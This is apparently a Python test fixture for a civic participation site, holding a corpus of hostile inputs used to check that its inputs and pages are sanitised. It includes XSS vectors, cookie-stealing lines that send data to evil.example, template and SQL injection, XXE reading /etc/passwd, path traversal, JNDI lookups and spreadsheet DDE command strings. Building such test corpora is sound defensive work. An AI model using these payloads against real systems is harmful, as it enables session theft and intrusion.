# ruff: noqa: E501 - payloads are kept whole, one a line
"""A corpus of hostile inputs, written for Minyi's tests (issue 9).

Each payload is posted through every citizen-facing input and looked for in every place that shows
it again. Kept as plain data so that the browser tests and the load scripts can reuse it.

Families (``FAMILIES`` maps a name to its list; ``ALL`` is every payload once):

- ``script``: script tags in many spellings and encodings;
- ``handlers``: event-handler attributes on many elements;
- ``urls``: ``javascript:``, ``vbscript:`` and ``data:`` URLs, in links, forms, iframes, meta refresh;
- ``svg_mathml``: SVG and MathML vectors;
- ``css``: ``expression()``, ``url()``, ``@import``, ``behavior``;
- ``templates``: Django/Jinja ``{{ }}`` / ``{% %}``, JS ``${}``, AngularJS, ERB, SSI;
- ``breakouts``: attribute, comment, CDATA, ``</textarea>``/``</title>``/``</script>`` breakouts;
- ``unicode``: bidi overrides, zero-width characters, homoglyphs, full-width brackets, NUL and
  control characters;
- ``formula``: CSV/spreadsheet formula injection (``=HYPERLINK(...)``, DDE);
- ``json_sql``: JSON, SQL and header injection;
- ``long``: very long strings;
- ``sinks``: script that does not call ``alert`` but writes ``window.xss``, ``document.title``,
  ``data-xss``, calls ``fetch``/``sendBeacon``/``window.open``/``print``, navigates or throws, each
  with a marker the browser test's trap (tests/browser/test_hostile_payloads.py) looks for.
"""

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
CONTROL = "".join(chr(c) for c in range(0x00, 0x20) if chr(c) not in "\t\n\r") + "\x7f"
#: Characters moderation promises never to publish (see moderation.screening.text).
DANGEROUS_CHARS = set(BIDI + ZERO_WIDTH + CONTROL) - {"\u200e", "\u200f"}

_TAGS = ["script", "SCRIPT", "ScRiPt", "sCrIpT"]
SCRIPT = [
    "<script>alert(1)</script>",
    "<script>alert('XSS')</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<SCRIPT SRC=//evil.example/.j></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '<script type="module">import("//evil.example")</script>',
    '<script type="text/javascript">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>fetch('/me/export/').then(r=>r.text()).then(t=>navigator.sendBeacon('//e.x',t))</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<script>alert`1`</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
] + [f"<{tag}>alert({n})</{tag}>" for n, tag in enumerate(_TAGS)]

_ELEMENTS = [
    ("img", "src=x"),
    ("body", ""),
    ("svg", ""),
    ("video", "src=x"),
    ("audio", "src=x"),
    ("iframe", "src=x"),
    ("input", "autofocus"),
    ("details", "open"),
    ("marquee", ""),
    ("select", "autofocus"),
    ("textarea", "autofocus"),
    ("div", 'style="width:1000px;height:1000px"'),
    ("a", 'href="#"'),
    ("object", "data=x"),
    ("embed", "src=x"),
]
_EVENTS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
]
HANDLERS = [
    f"<{tag} {extra} {event}=alert({n})>".replace("  ", " ")
    for n, ((tag, extra), event) in enumerate(zip(_ELEMENTS * 2, _EVENTS * 3, strict=False))
] + [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror='alert(1)'>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>移過來</div>",
    "<form><button formaction=javascript:alert(1)>送出</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=alert(1)>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
]

URLS = [
    '<a href="javascript:alert(1)">點我</a>',
    "<a href='javascript:alert(1)'>點我</a>",
    "<a href=javascript:alert(1)>點我</a>",
    '<a href="JaVaScRiPt:alert(1)">點我</a>',
    '<a href=" javascript:alert(1)">點我</a>',
    '<a href="java\tscript:alert(1)">點我</a>',
    '<a href="java\nscript:alert(1)">點我</a>',
    '<a href="&#106;avascript:alert(1)">點我</a>',
    '<a href="&#x6A;avascript:alert(1)">點我</a>',
    '<a href="javascript&colon;alert(1)">點我</a>',
    '<a href="vbscript:msgbox(1)">點我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">點我</a>',
    '<a href="data:text/html,<script>alert(1)</script>">點我</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "[點我](javascript:alert(1))",
    "[點我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "javascript:alert(document.domain)",
    "JAVASCRIPT:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://example.org/"><script>alert(1)</script>',
    '<a href="https://example.org/" target=_blank>正常連結 without rel</a>',
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>點</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"/></svg>",
    "<svg><style>{}</style><img src=x onerror=alert(1)></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{color:red!important;font-size:99px}</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">偽造的登入畫面</p>',
    '<link rel=stylesheet href="data:text/css,*{display:none}">',
    "</style><script>alert(1)</script>",
    "x{}*{color:red}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in 'abc' %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "${7*7}",
    "${alert(1)}",
    "`${alert(1)}`",
    "#{7*7}",
    "<%= 7*7 %>",
    "<%= system('id') %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "[[7*7]]",
    "@(7*7)",
    '<!--#exec cmd="id"-->',
    "{# comment #}{{ 1 }}",
    "%(secret)s %s %d {0} {}",
    "{{ comment.author.email }}",
    "{% csrf_token %}",
]

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"/><img src=x onerror=alert(1)>',
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0" onclick="alert(1)',
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)//-->",
    "<!-- x --!><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</select><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
    "</description><script>alert(1)</script><description>",
    "</title><link>javascript:alert(1)</link><title>",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "\r\nSUMMARY:injected\r\nURL:javascript:alert(1)",
    "\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:偽造活動\nEND:VEVENT",
    "</script><script>alert(1)</script><script>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><x>&xxe;</x>",
    "<?xml version='1.0'?><x/>",
    "<!--",
    "-->",
    "<",
    ">",
    "&",
    '"',
    "'",
    "&amp;&lt;&gt;&quot;&#39;",
]

UNICODE = [
    "贊成\u202e這是反轉的文字\u202c。",
    "檔案名稱 invoice\u202egpj.exe",
    "\u202dlatin\u202c 與 \u2067右至左\u2069 混排",
    "\u2066\u2067\u2068\u2069隔離字元",
    "零\u200b寬\u200c字\u200d元\u2060測\ufeff試",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "java\u200bscript:alert(1)",
    "\u200b" * 50 + "看不見的開頭",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u02c2script\u02c3alert(1)",
    "\ufe64script\ufe65alert(1)",
    "ＡＤＭＩＮ 管理員公告",
    "\u0430dmin@minyi.gov.tw 公告（Cyrillic а）",
    "аррӏе.com 官方網站",  # Cyrillic homoglyphs
    "gov.tw\u2024evil.example",
    "民意\x00NUL 字元",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "控制字元\x01\x02\x03\x07\x08\x0b\x0c\x1b[31m紅字\x1b[0m",
    "DEL\x7f 字元",
    "換行\r\n與\r回車",
    "\u2028行分隔\u2029段分隔",
    "\ud7ff\ue000\uf8ff 私用區",
    "𠀀𪚥𩸽 擴充漢字與 😀👩‍👩‍👧‍👦 表情",
    "Z̷̧̛̛̳̖̣̟͎̱͓̪͓̪a̴̡͖̬̗͙̗̗̝̖͔̥͑l̸̨̛̖̝̬̝̲͍͈̬̝̲g̵̡̯͎̯̳͈͍̦̖o̶̢̧̮̦̰͇̰",
    "\u0000\u0001\u0002" + "空白 " * 3,
    "\u00a0\u2000\u2001\u2002\u3000 各種空白",
    "\u115f\u1160\u3164 韓文填充字",
    "\u180e 蒙古文母音分隔",
    "\u034f 組合字元連接",
    "\U000e0041\U000e0042 標籤字元",
    "Ａ１２３４５６７８９ 全形身分證",
]

FORMULA = [
    '=HYPERLINK("https://evil.example/?x="&A1,"點我看補助")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=CMD|'/C calc'!A0",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A10)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "＝1+1（全形等號）",
    '"=1+1"',
    "';=1+1",
]

JSON_SQL = [
    '{"__proto__": {"admin": true}}',
    '"}]}; alert(1); //',
    '</script>{"a":1}',
    "\\",
    "\\\\\\",
    "\\u0000",
    "' OR '1'='1",
    "'; DROP TABLE participation_comment; --",
    "1; SELECT pg_sleep(10)--",
    "%' AND 1=1 --",
    '") OR 1=1 --',
    "admin'--",
    "%00%0d%0aSet-Cookie:x=1",
    "X-Injected: 1\r\nLocation: https://evil.example/",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%s%n",
    "{0.__class__}",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "0",
    "-1",
    "99999999999999999999999999999",
]

LONG = [
    "長" * 1900,
    "<b>" * 300,
    "<script>" + "a" * 1500 + "</script>",
    ("<img src=x onerror=alert(1)>" * 60),
    "x" * 10_000,
    "\u202e" * 500 + "反轉",
    "𠀀" * 1000,
    "a " * 1500,
    "&" * 1800,
]

SINKS = [
    "<script>window.xss='evil.example'</script>",
    "<img src=x onerror=window.xss=1>",
    "<img src=x onerror=\"eval('x'+'ss=1')\">",
    "<img src=x onerror=\"setTimeout('window.xss=1')\">",
    "<svg onload=\"document.title='XSS'\">",
    '<img src=x onerror="document.body.dataset.xss=1">',
    '<details open ontoggle="document.documentElement.dataset.xss=1">',
    "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<b id=xss>XSS</b>')\">",
    "<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">",
    "<img src=x onerror=\"navigator.sendBeacon('//evil.example/',document.cookie)\">",
    "<img src=x onerror=\"new Image().src='//evil.example/?c='+document.cookie\">",
    "<img src=x onerror=\"window.open('//evil.example/')\">",
    "<img src=x onerror=\"location='//evil.example/'\">",
    "<img src=x onerror=\"import('//evil.example/x.js')\">",
    "<img src=x onerror=\"console.warn('__XSS_TRAP__ console')\">",
    "<img src=x onerror=\"throw new Error('__XSS_TRAP__ thrown')\">",
    "<script>print()</script>",
    '<iframe src="//evil.example/"></iframe>',
]

FAMILIES = {
    "script": SCRIPT,
    "handlers": HANDLERS,
    "urls": URLS,
    "svg_mathml": SVG_MATHML,
    "css": CSS,
    "templates": TEMPLATES,
    "breakouts": BREAKOUTS,
    "unicode": UNICODE,
    "formula": FORMULA,
    "json_sql": JSON_SQL,
    "long": LONG,
    "sinks": SINKS,
}

ALL: list[str] = list(dict.fromkeys(p for family in FAMILIES.values() for p in family))
#: The payloads that fit a short field (statements have at most 140 characters).
SHORT: list[str] = [p for p in ALL if len(p) <= 140]
